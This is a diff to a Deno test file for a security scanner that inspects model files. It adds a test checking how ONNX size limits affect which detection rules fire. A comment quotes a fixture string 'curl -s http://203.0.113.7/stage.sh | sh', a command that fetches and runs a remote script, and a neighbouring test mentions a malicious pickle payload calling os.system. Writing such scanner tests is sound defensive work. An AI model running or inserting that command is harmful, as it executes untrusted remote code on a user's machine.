@@ -220,6 +220,20 @@ Deno.test("gguf.maxLegacyTokenBytes: a longer vocabulary token of a legacy GGML 
   assert.deepEqual(await at(7), ["MA347 warning m.bin (pos 72)", "MA346 info m.bin (pos 0)"]);
 });
 
+Deno.test("onnx.maxStrings, maxStringBytes and maxFields: what is past them is not searched, and MA466 says so", async () => {
+  // A node's doc_string at 41: "curl -s http://203.0.113.7/stage.sh | sh" (the IP's URL ends at its 26th byte).
+  const onnx = await fixture("onnx/malicious/metadata_shell_pipe.onnx");
+  const at = async (options: Record<string, number>) =>
+    (await scanBytes(onnx, "m.onnx", { scannerOptions: { onnx: options } })).findings.map((f) =>
+      `${f.rule} ${f.details.indicator ?? f.details.option}`
+    );
+  assert.deepEqual(await at({ maxStrings: 1, maxStringBytes: 40 }), ["MA011 shell-pipe", "MA011 raw-ip-url"]);
+  assert.deepEqual(await at({ maxStringBytes: 39 }), ["MA011 raw-ip-url"]);
+  assert.deepEqual(await at({ maxStringBytes: 25 }), []);
+  assert.deepEqual(await at({ maxStrings: 0 }), ["MA466 onnx.maxStrings"]);
+  assert.deepEqual(await at({ maxFields: 5 }), ["MA466 onnx.maxFields"]);
+});
+
 Deno.test("tar.maxEntries: MA210 at the header of the first entry past it, which is not scanned", async () => {
   // README.txt at 0, payload.pkl (os.system) at 1024.
   const tar = await fixture("tar/malicious/payload.tar");
